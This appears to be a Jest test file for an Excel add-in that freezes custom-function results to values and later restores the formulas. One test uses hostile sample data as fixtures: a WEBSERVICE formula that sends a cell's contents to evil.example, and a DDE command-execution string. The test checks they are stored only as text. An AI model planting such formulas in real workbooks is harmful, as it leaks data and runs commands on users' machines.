// The Excel implementation of the workbook host, run against the preview page's mock
// Office (the same Excel.run calls, spill ranges, number formats, sheets and document
// settings): freeze a spilled table and a single cell, then restore them.
import { freezeHere, SEAL } from "./test-seal";
import { CellEvaluator } from "../../src/preview/cell-evaluator";
import { PreviewHost } from "../../src/preview/mock-office";
import { layoutSheet } from "../../src/preview/sheet-layout";
import { SheetModel } from "../../src/preview/sheet-model";
import { excelWorkbookHost } from "../../src/workbook/excel-workbook-host";
import { freeze } from "../../src/workbook/freeze";
import { FROZEN_SETTING } from "../../src/workbook/frozen-record";
import { restore } from "../../src/workbook/restore";
import { SOURCES_SHEET } from "../../src/workbook/sources-sheet";

const scope = globalThis as unknown as Record<string, unknown>;
const DATE_FORMAT = "yyyy-mm";
const HOSTILE_TEXT = '=WEBSERVICE("https://evil.example/c?d="&ENCODEURL(Sheet1!A1))';

function workbook() {
  const sheet = new SheetModel(20, 6);
  const host = new PreviewHost(sheet, () => evaluator.recalculateAll());
  // PCD.VALUES: a 2×2 table whose first column holds dates (formatted numbers); PCD.VALUE: 42.5.
  const functions: Record<string, (...args: unknown[]) => unknown> = {
    VALUES: (_code: unknown, _invocation: unknown) => [
      [{ type: "FormattedNumber", basicValue: 46023, numberFormat: DATE_FORMAT }, 10],
      [{ type: "Double", basicValue: 46054, numberFormat: DATE_FORMAT }, 11],
    ],
    // "slow" never answers: the cell stays #BUSY!.
    VALUE: (code: unknown, _invocation: unknown) =>
      code === "slow" ? new Promise(() => undefined) : code === "precise" ? 28.568466666666666 : 42.5,
    // A hostile catalog's text, as PCD.INFO shows it.
    INFO: (_code: unknown, _field: unknown, _invocation: unknown) => HOSTILE_TEXT,
  };
  const evaluator = new CellEvaluator(sheet, (name) => functions[name]);
  sheet.subscribe((event) => {
    if (event.type === "cell") evaluator.evaluate(event.address);
  });
  const layout = () =>
    layoutSheet({
      rows: 20,
      columns: 6,
      filled: sheet.filledCells(),
      result: (address) => evaluator.result(address),
    });
  host.attachEvaluation({ layout, result: (address) => evaluator.result(address) });
  host.install(scope);
  return { sheet, host, layout };
}

afterEach(() => {
  for (const name of ["Office", "Excel", "CustomFunctions", "OfficeRuntime"]) delete scope[name];
});

test("freeze writes a spilled table's values with their date formats, the record and the sources sheet; restore puts the formulas back", async () => {
  const { sheet, host } = workbook();
  sheet.setContent({ row: 1, column: 1 }, '=PCD.VALUES("1-1-1")');
  sheet.setContent({ row: 5, column: 1 }, '=PCD.VALUE("2-2-2")');
  sheet.setContent({ row: 7, column: 1 }, "=SUM(1,2)");

  const cells = await excelWorkbookHost.formulaCells("sheet");
  expect(cells.map((cell) => [cell.address, cell.range])).toEqual([
    ["Sheet1!B2", "Sheet1!B2:C3"],
    ["Sheet1!B6", "Sheet1!B6"],
    ["Sheet1!B8", "Sheet1!B8"],
  ]);
  expect(cells[0]?.values).toEqual([
    [46023, 10],
    [46054, 11],
  ]);
  expect(cells[0]?.numberFormats).toEqual([
    [DATE_FORMAT, "General"],
    [DATE_FORMAT, "General"],
  ]);

  const outcome = await freezeHere(excelWorkbookHost, "sheet");
  expect(outcome.status).toBe("frozen");
  expect(sheet.content({ row: 1, column: 1 })).toBe("46023");
  expect(sheet.content({ row: 2, column: 2 })).toBe("11");
  expect(host.formatAt("Sheet1", { row: 2, column: 1 })).toBe(DATE_FORMAT);
  expect(sheet.content({ row: 7, column: 1 })).toBe("=SUM(1,2)");
  expect(host.sheetNames()).toEqual(["Sheet1", SOURCES_SHEET]);
  expect(host.sheetNamed(SOURCES_SHEET).content({ row: 0, column: 0 })).toBe("Series");
  const record = host.record.settings.get(FROZEN_SETTING) as { cells: Array<{ range: string }> };
  expect(record.cells.map((cell) => cell.range)).toEqual(["Sheet1!B2:C3", "Sheet1!B6"]);

  // A person edits the single cell; restore brings the table back and reports the edit.
  sheet.setContent({ row: 5, column: 1 }, "40");
  const restored = await restore(excelWorkbookHost, "all", { seal: SEAL });
  expect(restored.restored).toEqual(["Sheet1!B2:C3"]);
  expect(restored.changed).toEqual([
    { range: "Sheet1!B6", cells: [{ cell: "Sheet1!B6", frozen: 42.5, now: 40 }] },
  ]);
  expect(sheet.content({ row: 1, column: 1 })).toBe('=PCD.VALUES("1-1-1")');
  expect(sheet.content({ row: 2, column: 2 })).toBe("");
  expect(sheet.content({ row: 5, column: 1 })).toBe("40");
});

test("a cell still #BUSY! is refused and nothing is written", async () => {
  const { sheet, host } = workbook();
  sheet.setContent({ row: 0, column: 0 }, '=PCD.VALUE("slow")');
  sheet.setContent({ row: 1, column: 0 }, '=PCD.VALUE("1-1-1")');
  const outcome = await freezeHere(excelWorkbookHost, "workbook");
  expect(outcome).toEqual({ status: "refused", refused: [{ address: "Sheet1!A1", shows: "#BUSY!" }] });
  expect(sheet.content({ row: 1, column: 0 })).toBe('=PCD.VALUE("1-1-1")');
  expect(host.record.settings.size).toBe(0);
  expect(host.sheetNames()).toEqual(["Sheet1"]);
});

test.each<[string, string, string]>([
  ["a spilled table", '=PCD.VALUES("1-1-1")', "Sheet1!B2:C3"],
  ["a single cell", '=PCD.VALUE("2-2-2")', "Sheet1!B2"],
])(
  "a formula Excel refuses to take back leaves %s's frozen values as they were",
  async (_name, formula, range) => {
    const { sheet } = workbook();
    sheet.setContent({ row: 1, column: 1 }, formula);
    await freezeHere(excelWorkbookHost, "sheet");
    const frozen = await excelWorkbookHost.readRange(range);
    // Excel refuses the formula (as it refuses a text literal over 255 characters): the write throws.
    const write = PreviewHost.prototype.write;
    const refusing = jest.spyOn(PreviewHost.prototype, "write").mockImplementation(function (
      this: PreviewHost,
      ...args: Parameters<PreviewHost["write"]>
    ) {
      if (args[1].some((row) => row.some((cell) => cell.startsWith("=PCD.")))) {
        throw new Error("InvalidArgument: the formula is not valid.");
      }
      write.apply(this, args);
    });
    try {
      await expect(restore(excelWorkbookHost, "all", { seal: SEAL })).rejects.toThrow(
        `it stopped at ${range} (InvalidArgument: the formula is not valid.): no formula was restored; ${range} and the frozen ranges not reached yet keep their values.`,
      );
    } finally {
      refusing.mockRestore();
    }
    expect(await excelWorkbookHost.readRange(range)).toEqual(frozen);
    // The record still holds the range, unchanged: the next Restore puts the formula back.
    await expect(restore(excelWorkbookHost, "all", { seal: SEAL })).resolves.toMatchObject({
      restored: [range],
      changed: [],
    });
    expect(sheet.content({ row: 1, column: 1 })).toBe(formula);
  },
);

test("the selection scope reads the selected block only", async () => {
  const { sheet } = workbook();
  sheet.setContent({ row: 0, column: 0 }, '=PCD.VALUE("1-1-1")');
  sheet.setContent({ row: 3, column: 3 }, '=PCD.VALUE("2-2-2")');
  sheet.select({ row: 2, column: 2, rowCount: 3, columnCount: 3 });
  expect((await excelWorkbookHost.formulaCells("selection")).map((cell) => cell.address)).toEqual([
    "Sheet1!D4",
  ]);
});

test("older Excel (no ExcelApi 1.12) is told Freeze needs a version that reads spilled tables", async () => {
  workbook();
  const office = scope["Office"] as {
    context: { requirements: { isSetSupported(name: string, version?: string): boolean } };
  };
  office.context.requirements.isSetSupported = (name, version) =>
    !(name === "ExcelApi" && Number(version) >= 1.12);
  await expect(excelWorkbookHost.formulaCells("sheet")).rejects.toThrow(/ExcelApi 1\.12/);
});

test("the report sheet is written (and written again) from A1", async () => {
  const { host } = workbook();
  await excelWorkbookHost.writeSheet("PCD changes 2026-12", [["Series", "Month"], ["1-1-1"]]);
  const address = await excelWorkbookHost.writeSheet("PCD changes 2026-12", [["Series"], ["2-2-2"]]);
  expect(address).toBe("'PCD changes 2026-12'!A1:A2");
  const report = host.sheetNamed("PCD changes 2026-12");
  // A code is written with the text prefix: Excel would take "2-2-2" for a date.
  expect([report.content({ row: 1, column: 0 }), report.content({ row: 0, column: 1 })]).toEqual([
    "'2-2-2",
    "",
  ]);
});

test("text that reads as a formula is frozen, listed and restored as text, never as a formula", async () => {
  const { sheet, host } = workbook();
  sheet.setContent({ row: 0, column: 0 }, "secret");
  sheet.setContent({ row: 1, column: 1 }, '=PCD.INFO("1-1-1","description")');
  const outcome = await freeze({
    seal: SEAL,
    host: excelWorkbookHost,
    scope: "sheet",
    provenance: async () => [
      {
        code: "1-1-1",
        description: "=cmd|' /C calc'!A0",
        currency: "@SUM(A1)",
        unit: "-1+1",
        releaseMonth: "2026-11",
        latestMonth: "2026-10",
        retrievedAt: null,
        owner: "+owner",
      },
    ],
    now: () => 0,
  });
  expect(outcome).toMatchObject({ status: "frozen" });
  // Excel keeps a value written with the text prefix as text: the cell shows the text.
  expect(sheet.content({ row: 1, column: 1 })).toBe(`'${HOSTILE_TEXT}`);
  const frozen = await excelWorkbookHost.readRange("Sheet1!B2");
  expect(frozen.values).toEqual([[HOSTILE_TEXT]]);
  const sources = host.sheetNamed(SOURCES_SHEET);
  const row = [0, 1, 2, 3, 7].map((column) => sources.content({ row: 1, column }));
  expect(row).toEqual(["'1-1-1", "'=cmd|' /C calc'!A0", "'@SUM(A1)", "'-1+1", "'+owner"]);
  // The text read back is what was frozen: Restore finds it unchanged and puts the formula back.
  const restored = await restore(excelWorkbookHost, "all", { seal: SEAL });
  expect(restored).toMatchObject({ restored: ["Sheet1!B2"], changed: [] });
  expect(sheet.content({ row: 1, column: 1 })).toBe('=PCD.INFO("1-1-1","description")');
});

test.each<[string, string, "restored" | "changed"]>([
  ["the value as the grid shows it", "28.56846667", "restored"],
  ["the value rounded to four decimals", "28.5685", "restored"],
  ["a value rounded further than a cell shows", "28.57", "changed"],
  ["another number", "123", "changed"],
])("restore reads what the cell shows: %s typed over a frozen value is %s", async (_name, typed, status) => {
  const { sheet } = workbook();
  sheet.setContent({ row: 2, column: 3 }, '=PCD.VALUE("precise")');
  await freezeHere(excelWorkbookHost, "sheet");
  sheet.setContent({ row: 2, column: 3 }, typed);
  const outcome = await restore(excelWorkbookHost, "all", { seal: SEAL });
  expect(outcome.restored).toEqual(status === "restored" ? ["Sheet1!D3"] : []);
  expect(outcome.changed.map((block) => block.range)).toEqual(status === "changed" ? ["Sheet1!D3"] : []);
});

test("a sheet holds what the preview's sheets hold, and a sheet too small for its rows is not left half written", async () => {
  const { host } = workbook();
  await expect(excelWorkbookHost.sheetLimits()).resolves.toEqual({ rows: 20, columns: 6 });
  const rows = Array.from({ length: 21 }, (_row, index) => [`row ${index + 1}`]);
  await expect(excelWorkbookHost.writeSheet("PCD changes 2026-11", rows)).rejects.toThrow(
    /A21 is outside the preview sheet/,
  );
  expect(host.sheetNames()).toEqual(["Sheet1"]);
  await expect(excelWorkbookHost.writeSheet("PCD changes 2026-11", rows.slice(0, 20))).resolves.toBe(
    "'PCD changes 2026-11'!A1:A20",
  );
  expect(host.sheetNamed("PCD changes 2026-11").content({ row: 19, column: 0 })).toBe("'row 20");
});
